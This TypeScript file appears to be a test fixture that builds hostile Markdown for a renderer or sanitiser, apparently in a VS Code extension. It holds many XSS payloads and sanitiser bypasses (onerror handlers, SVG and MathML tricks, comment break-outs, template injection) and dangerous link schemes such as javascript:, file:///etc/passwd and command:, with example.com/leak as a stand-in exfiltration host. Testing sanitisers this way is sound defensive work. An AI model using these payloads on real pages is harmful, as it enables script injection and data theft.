/** Markup that a model, a tool or a page might send: every kind of tag, event, address and break-out, each in every place of Markdown. */

const hit = "globalThis.hit=1";
const away = "https://example.com/leak";

/** Tags that run, load, navigate, restyle, replace or hide. */
const tags: readonly string[] = [
  `<script>${hit}</script>`,
  `<script src="${away}.js"></script>`,
  `<script type=module>import("${away}.js")</script>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<img src=x onerror=${hit}>`,
  `<img src="${away}.png" srcset="${away}.png 2x" loading=eager>`,
  `<picture><source srcset="${away}.webp"><img src=x></picture>`,
  `<image href="${away}.png" onerror=${hit}>`,
  `<svg onload=${hit}><image href="${away}.svg"/><use href="${away}.svg#a"/></svg>`,
  `<svg><script>${hit}</script><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${hit}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${hit}></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<object data="${away}.swf"><embed src="${away}.swf"></object>`,
  `<video src="${away}.mp4" poster="${away}.png" autoplay onloadstart=${hit}></video>`,
  `<audio src="${away}.mp3" autoplay onerror=${hit}></audio>`,
  `<link rel=stylesheet href="${away}.css"><link rel=preload as=image href="${away}.png">`,
  `<link rel=dns-prefetch href="//example.com"><link rel=preconnect href="https://example.com">`,
  `<style>@import "${away}.css"; body { background: url(${away}.png) }</style>`,
  `<p style="background:url(${away}.png);position:fixed;inset:0">x</p>`,
  `<meta http-equiv=refresh content="0;url=${away}"><base href="https://example.com/">`,
  `<form action="${away}"><input autofocus onfocus=${hit}><button formaction="javascript:${hit}">go</form>`,
  `<details open ontoggle=${hit}><summary>x</summary></details>`,
  `<body onload=${hit} background="${away}.png">`,
  `<div onpointerover=${hit} onclick=${hit} contenteditable onfocus=${hit} tabindex=0>x</div>`,
  `<marquee onstart=${hit}>x</marquee><blink>x</blink>`,
  `<template shadowrootmode=open><script>${hit}</script></template>`,
  `<slot name=x></slot><portal src="${away}"></portal><fencedframe></fencedframe>`,
  `<a href="${away}" ping="${away}" target=_top download>x</a>`,
  `<a id=posted name=acquireVsCodeApi href="cid:x">x</a><form name=document><input name=cookie></form>`,
  `<input type=image src="${away}.png" onerror=${hit}><isindex action=javascript:${hit}>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
  `<textarea></textarea><img src=x onerror=${hit}><xmp></xmp><plaintext>`,
  `<!--><img src=x onerror=${hit}>--> <!--- x --!><img src=x onerror=${hit}>`,
  `<![CDATA[<img src=x onerror=${hit}>]]> <?php ${hit} ?> <!DOCTYPE html [<!ENTITY x "y">]>`,
  `</code></pre></div></body></html><img src=x onerror=${hit}>`,
  `<img/src=x/onerror=${hit}> <img\tsrc=x\u000bonerror=${hit}> <\u0000img src=x onerror=${hit}>`,
  `&lt;img src=x onerror=${hit}&gt; &#60;script&#62;${hit}&#60;/script&#62; \\<img src=x onerror=${hit}>`,
  `\${${hit}} {{constructor.constructor("${hit}")()}} <%= ${hit} %> lit$123$ <?lit$1$?> <!--?lit$-->`,
];

/** Addresses that run, or lead where a link must not. */
const addresses: readonly string[] = [
  `javascript:${hit}`,
  `JaVaScRiPt:${hit}`,
  `java&#115;cript:${hit}`,
  `&#x6A;avascript&colon;${hit}`,
  `java%0ascript:${hit}`,
  `\u0001javascript:${hit}`,
  `javascript://example.com/%0a${hit}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>parent.${hit}</script>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMuaGl0PTEiLz4=`,
  `blob:https://example.com/1`,
  `file:///etc/passwd`,
  `command:workbench.action.quit`,
  `vscode://sluice.sluice/run`,
  `vscode-webview://x/`,
  `//example.com/x`,
  `\\\\example.com\\x`,
  `filesystem:https://example.com/x`,
  `about:blank`,
  `ms-settings:x`,
];

const places: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `Words ${markup} and *more ${markup}*.`,
  (markup) => `- item\n  - ${markup}\n`,
  (markup) => `> ${markup}\n> # ${markup}`,
  (markup) => `| a | ${markup.replaceAll("|", "\\|")} |\n|---|---|\n| ${markup.replaceAll("|", "\\|")} | b |`,
  (markup) => `[${markup}](https://example.com "${markup}")`,
  (markup) => `![${markup}](${away}.png '${markup}')`,
  (markup) => `\`\`\`html ${markup}\n${markup}\n\`\`\``,
];

const links: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => `<${address}> ${address}`,
  (address) => `[x][r-${address.length}]\n\n[r-${address.length}]: ${address}`,
  (address) => `<a href="${address}">x</a> <img src='${address}'>`,
];

/** Each kind of markup in each place, as paragraphs. */
export const markup: readonly string[] = [
  ...tags.flatMap((tag) => places.map((place) => place(tag))),
  ...addresses.flatMap((address) => links.map((link) => link(address))),
];
